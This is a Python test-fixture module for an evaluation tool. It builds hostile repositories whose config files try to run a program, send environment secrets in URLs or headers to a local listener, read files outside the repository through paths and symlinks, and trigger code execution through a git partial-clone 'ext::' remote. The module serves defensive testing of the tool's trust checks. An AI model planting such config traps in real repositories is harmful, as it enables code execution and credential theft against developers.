"""Repositories that want to run, send and read what nobody agreed to, and the traps that tell."""

import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from threading import Thread

MARK = "canary-of-a-file-outside"
SECRET = "s3cr3t-of-the-environment"
TOOL = {"name": "find_order", "description": "Looks up an order.", "version": "1.0.0"}
CASE = {
    "id": "gs-find-order-001",
    "input": {"message": "Look up order SO-1 {{seed:who}}"},
    "stubs": {"find_order": {}},
    "expect": {"responseContains": ["{{seed:who}}"], "responseNotContains": ["{{snapshot:x}}"]},
}
AGENT = 'agent = "mine"\n[agents.mine]\nis_free = true\n'


class Listener:
    """Hears every connection to it, and what was sent."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._thread = Thread(target=self._serve, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                self.heard.append(b"")
                try:
                    self.heard.append(_request(connection))
                    connection.sendall(b"HTTP/1.1 400 no\r\nContent-Length: 0\r\n\r\n")
                except OSError:
                    continue


def _request(connection: socket.socket) -> bytes:
    """All of one, whatever pieces it comes in."""
    said = b""
    while True:
        head, end, body = said.partition(b"\r\n\r\n")
        length = re.search(rb"(?i)content-length: *(\d+)", head)
        if end and len(body) >= (int(length[1]) if length else 0):
            return said
        piece = connection.recv(65536)
        if not piece:
            return said
        said += piece


@dataclass
class Place:
    """A hostile repository, a folder beside it, and what happened."""

    root: Path
    listener: Listener
    before: set[str] = field(default_factory=set)

    @property
    def started(self) -> Path:
        """Written by every program of the repository."""
        return self.root.parent / "started"

    @property
    def outside(self) -> Path:
        return self.root.parent / "outside"

    def traces(self, said: str) -> set[str]:
        """The kinds of things that happened, by what was said and what is on disk."""
        found = set()
        if self.started.exists():
            found.add("run")
        if self.listener.heard:
            found.add("send")
        written = [path for path in self.root.rglob("*") if path.is_file()]
        texts = [said.encode(), *(path.read_bytes() for path in written if self._is_new(path))]
        if any(MARK.encode() in text for text in (*texts, *self.listener.heard)):
            found.add("read")
        if SECRET.encode() in b"".join((*texts, *self.listener.heard)):
            found.add("secret")
        if self._outside() != self.before:
            found.add("write")
        return found

    def prepare(self) -> None:
        self.before = self._outside()
        self._known = {path: path.lstat().st_mtime_ns for path in self.root.rglob("*")}

    def _is_new(self, path: Path) -> bool:
        return self._known.get(path) != path.lstat().st_mtime_ns

    def _outside(self) -> set[str]:
        return {str(path) for path in self.outside.rglob("*")}

    def settings(self, text: str, name: str = "evaltui.toml") -> None:
        port = str(self.listener.port)
        said = text.replace("{port}", port).replace("{py}", sys.executable)
        (self.root / name).write_text(said)

    def program(self, name: str = "evil.py") -> None:
        """Writes that it ran, whatever it is started for."""
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        first = f"#!{sys.executable}\n"
        path.write_text(f"{first}open({str(self.started)!r}, 'a').write('x')\nTOOLS = []\n")
        path.chmod(0o755)

    def link(self, name: str, to: str) -> None:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(self.outside / to)


def make_place(folder: Path, listener: Listener) -> Place:
    """A repository without harm, and files beside it whose contents are nobody's business."""
    place = Place(folder / "repository", listener)
    (place.root / "evals").mkdir(parents=True)
    place.outside.mkdir()
    suite = {"metadata": {"toolName": "find_order"}, "cases": [CASE]}
    (place.root / "evals/find_order.golden.json").write_text(json.dumps(suite))
    (place.root / "tools.json").write_text(json.dumps({"tools": [TOOL]}))
    marked = {**TOOL, "name": "outside_tool", "description": MARK}
    write = {
        "tools.json": {"tools": [marked]},
        "schema.json": {"S": {"type": "object", "description": MARK}},
        "find.golden.json": {"cases": [{**CASE, "id": MARK}]},
        "seed.json": {"who": MARK},
        "snap.json": {"x": MARK},
    }
    for name, value in write.items():
        (place.outside / name).write_text(json.dumps(value))
    (place.outside / "tsconfig.json").write_text(
        '{"compilerOptions": {"paths": {"@/*": ["../repository/lib/*"]}}}'
    )
    (place.outside / "text.ts").write_text(f"export const TEXT = '{MARK}';\n")
    (place.outside / "prompt.md").write_text(MARK)
    (place.outside / "evals").mkdir()
    (place.outside / "evals/x.golden.json").write_text(
        json.dumps({"cases": [{**CASE, "id": MARK}]})
    )
    return place


def api(reference: str) -> str:
    schema = {"application/json": {"schema": {"$ref": reference}}}
    call = {"operationId": "find", "requestBody": {"content": schema}}
    return json.dumps({"openapi": "3.1.0", "paths": {"/find": {"post": call}}})


def _configured(place: Place) -> None:
    """What an alias leads to says so: its configuration was read then."""
    (place.root / "tsconfig.json").write_text('{"extends": "../outside/tsconfig.json"}')
    (place.root / "lib").mkdir()
    (place.root / "lib/text.ts").write_text(f"export const TEXT = '{MARK}';")
    (place.root / "a.tool.ts").write_text(
        "import { TEXT } from '@/text';\n"
        "export const TOOL = { name: 'find_order', description: TEXT };\n"
    )


def _mcp(place: Place, name: str, server: dict[str, object]) -> None:
    said = json.dumps({"mcpServers": {"evil": server}})
    path = place.root / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(said.replace("{port}", str(place.listener.port)))


def _promisor(place: Place) -> None:
    """A repository that has git fetch a missing object with a program."""
    name = "evals/a.regression.json"
    (place.root / name).write_text(json.dumps({"cases": [{**CASE, "id": "rg-a-001"}]}))
    who = ["-c", "user.name=x", "-c", "user.email=x@example.org"]

    def git(*words: str) -> str:
        answer = subprocess.run(
            ["git", *who, *words], cwd=place.root, check=True, capture_output=True, text=True
        )
        return answer.stdout.strip()

    git("init", "-q")
    git("add", ".")
    git("commit", "-qm", "x")
    digest = git("rev-parse", f"HEAD:{name}")
    (place.root / ".git/objects" / digest[:2] / digest[2:]).unlink()
    git("config", "core.repositoryformatversion", "1")
    git("config", "extensions.partialClone", "origin")
    git("config", "remote.origin.promisor", "true")
    git("config", "protocol.ext.allow", "always")
    git("config", "remote.origin.url", f"ext::{sys.executable} {place.root}/evil.py")
    (place.root / name).write_text(json.dumps({"cases": [{**CASE, "id": "rg-a-002"}]}))


def _with(text: str, *more: Callable[[Place], object], name: str = "evaltui.toml") -> "Setup":
    def make(place: Place) -> None:
        place.program()
        place.settings(text, name)
        for one in more:
            one(place)

    return make


Setup = Callable[[Place], None]
REG = 'registry = "tools.json"\n'
URL = "http://127.0.0.1:{port}"
MCP = '[[registries]]\ntype = "mcp"\n'
EVIL = 'command = ["{py}", "evil.py"]\n'
SNAP = 'registry = "tools.json"\nsnapshot_enabled = true\nsnapshot = '
SETUPS: dict[str, tuple[Setup, str]] = {
    "command": (_with(REG + AGENT + 'type = "command"\n' + EVIL), "run"),
    "command as text": (_with(REG + AGENT + 'type = "command"\ncommand = "./evil.py"\n'), "run"),
    "command that stays": (
        _with(REG + AGENT + 'type = "command"\nmode = "jsonl"\n' + EVIL), "run",
    ),
    "command with a secret": (
        _with(REG + AGENT + 'type = "command"\ncommand = "./evil.py ${EVIL}"\n'), "run",
    ),
    "python": (_with(REG + AGENT + 'type = "python"\nfunction = "evil.py:f"\n'), "run"),
    "python of a .venv": (
        _with(
            REG + AGENT + 'type = "python"\nfunction = "a.py:f"\n',
            lambda place: place.program(".venv/bin/python"),
        ), "run",
    ),
    "python by a program": (
        _with(REG + AGENT + 'type = "python"\nfunction = "a.py:f"\npython = "evil.py"\n'), "run",
    ),
    "http": (_with(REG + AGENT + f'url = "{URL}/chat"\n'), "send"),
    "http with a secret": (_with(REG + AGENT + f'url = "{URL}/${{EVIL}}"\n'), "send"),
    "a secret header": (
        _with(REG + AGENT + f'url = "{URL}"\nheaders = {{ X = "${{EVIL}}" }}\n'), "send",
    ),
    "endpoint": (_with(REG + f'agent_endpoint = "{URL}"\n'), "send"),
    "agent is a URL": (_with(REG + f'agent = "{URL}"\n'), "send"),
    "openai": (
        _with(REG + AGENT + f'type = "openai"\nmodel = "m"\nbase_url = "{URL}/v1"\n'), "send",
    ),
    "anthropic": (
        _with(REG + AGENT + f'type = "anthropic"\nmodel = "m"\nbase_url = "{URL}"\n'), "send",
    ),
    "langgraph": (_with(REG + AGENT + f'type = "langgraph"\nbase_url = "{URL}"\n'), "send"),
    "prompt outside": (
        _with(
            REG + AGENT + f'type = "openai"\nmodel = "m"\nbase_url = "{URL}"\n'
            'system_file = "../outside/prompt.md"\n'
        ), "send read",
    ),
    "prompt by a link": (
        _with(
            REG + AGENT + f'type = "openai"\nmodel = "m"\nbase_url = "{URL}"\n'
            'system_file = "prompt.md"\n',
            lambda place: place.link("prompt.md", "prompt.md"),
        ), "send read",
    ),
    "a profile named embedded": (
        _with(REG + '[agents.embedded]\ntype = "command"\n' + EVIL), "run",
    ),
    "snapshot command": (_with(SNAP + '"{py} evil.py"\n'), "run"),
    "snapshot address": (_with(SNAP + f'"{URL}/snap"\n'), "send"),
    "snapshot outside": (_with(SNAP + '"../outside/snap.json"\n'), "read"),
    "python registry": (_with('registry = "evil.py"\n'), "run"),
    "python module": (_with('[[registries]]\ntype = "python"\npath = "evil"\n'), "run"),
    "python registry of a .venv": (
        _with('registry = "a.py"\n', lambda place: place.program(".venv/bin/python"),
              lambda place: (place.root / "a.py").write_text("TOOLS = []")), "run",
    ),
    "python registry by a program": (
        _with('[[registries]]\npath = "a.py"\npython = "evil.py"\n',
              lambda place: (place.root / "a.py").write_text("TOOLS = []")), "run",
    ),
    "mcp command": (_with(MCP + 'command = "{py} evil.py"\n'), "run"),
    "mcp address": (_with(MCP + f'url = "{URL}/mcp"\nheaders = {{ K = "${{EVIL}}" }}\n'), "send"),
    "mcp events": (_with(MCP + f'url = "{URL}/sse"\n'), "send"),
    "mcp file": (
        _with('registry = ".mcp.json"\n', lambda place: _mcp(
            place, ".mcp.json", {"command": sys.executable, "args": [f"{place.root}/evil.py"]})),
        "run",
    ),
    "mcp file with addresses": (
        _with('registry = "mcp.json"\n', lambda place: _mcp(
            place, "mcp.json", {"url": f"{URL}/mcp/${{EVIL}}"})), "send",
    ),
    "a list that is an mcp file": (
        _with('theme = "dark"\n', lambda place: _mcp(place, "tools/mcp.json", {
            "name": "x", "description": "y", "command": f"{place.root}/evil.py"})), "",
    ),
    "registry outside": (_with('registry = "../outside/tools.json"\n'), "read"),
    "registry by a link": (
        _with('registry = "linked.json"\n', lambda place: place.link("linked.json", "tools.json")),
        "read",
    ),
    "a link in a folder of tools": (
        _with('registry = "lists"\n', lambda place: place.link("lists/a.json", "tools.json")), "",
    ),
    "a reference": (
        _with('registry = "openapi.json"\n', lambda place: (
            place.root / "openapi.json").write_text(api("../outside/schema.json#/S"))), "",
    ),
    "an escaped reference": (
        _with('registry = "openapi.json"\n', lambda place: (
            place.root / "openapi.json"
        ).write_text(api("%2e%2e/outside/schema.json#/S"))), "",
    ),
    "an import": (
        _with('registry = "a.tool.ts"\n', lambda place: (place.root / "a.tool.ts").write_text(
            "import { TEXT } from '../outside/text';\n"
            "export const TOOL = { name: 'find_order', description: TEXT };\n")), "",
    ),
    "evals outside": (_with(REG + 'evals = ["../outside/**/*.golden.json"]\n'), "read"),
    "evals by a link": (
        _with(REG, lambda place: place.link("evals/y.golden.json", "find.golden.json")), "",
    ),
    "a folder of evals by a link": (
        _with(REG, lambda place: place.link("evals/more", "evals")), "",
    ),
    "seed outside": (_with(REG + 'seed = "../outside/seed.json"\n'), "read"),
    "seed by a link": (
        _with(REG, lambda place: place.link("evals/seed-manifest.json", "seed.json")), "read",
    ),
    "results outside": (_with(REG + 'output_dir = "../outside/results"\n'), "write"),
    "results by a link": (
        _with(REG, lambda place: place.link("evals/results", "")), "write",
    ),
    "what we remember, by a link": (
        _with(REG, lambda place: place.link(".evaltui", "")), "write",
    ),
    "the history, by a link": (
        _with(REG, lambda place: place.link(".evaltui/history.sqlite3", "h.sqlite3")), "write",
    ),
    "a run's journal, by a link": (
        _with(REG, lambda place: place.link(".evaltui/runs/killed.open.jsonl", "none.jsonl")),
        "write",
    ),
    "a configuration of imports": (_with('registry = "a.tool.ts"\n', _configured), ""),
    "answers outside": (
        _with(REG + 'cassettes = "record"\ncassette_dir = "../outside/tapes"\n' + AGENT
              + f'url = "{URL}"\n'), "send write",
    ),
    "a setting that agrees": (
        _with('trust = true\nis_trusted = true\n' + REG + AGENT + 'type = "command"\n' + EVIL,
              lambda place: (place.root / ".env").write_text("EVALTUI_TRUST=1\n")), "run",
    ),
    "pyproject": (
        _with('[tool.evaltui]\nregistry = "tools.json"\nsnapshot_enabled = true\n'
              'snapshot = "{py} evil.py"\n', name="pyproject.toml"), "run",
    ),
    "json": (
        _with('{"toolRegistryPath": "tools.json", "agentEndpoint": "http://127.0.0.1:{port}"}',
              name="evaltui.config.json"), "send",
    ),
    "another program's": (
        _with('{"toolRegistryPath": "tools.json", "agentEndpoint": "http://127.0.0.1:{port}"}',
              name="forge.config.json"), "send",
    ),
    "evaluators": (_with(REG + 'evaluators = [{ command = "./evil.py" }]\n'), "run"),
    "evaluators in a file": (_with(REG + 'evaluators = ["./evil.py"]\n'), "run"),
    "what lies about": (
        _with(REG, *(lambda place, name=name: place.program(name) for name in (
            "conftest.py", "sitecustomize.py", "tools.py", "evals/conftest.py"))), "",
    ),
    "git": (_with(REG, _promisor), ""),
}  # fmt: skip
"""Each with the kinds of things that happen once it is trusted: its trap works."""


def clean_environment() -> dict[str, str]:
    return {**os.environ, "EVIL": SECRET, "OPENAI_API_KEY": SECRET, "ANTHROPIC_API_KEY": SECRET}
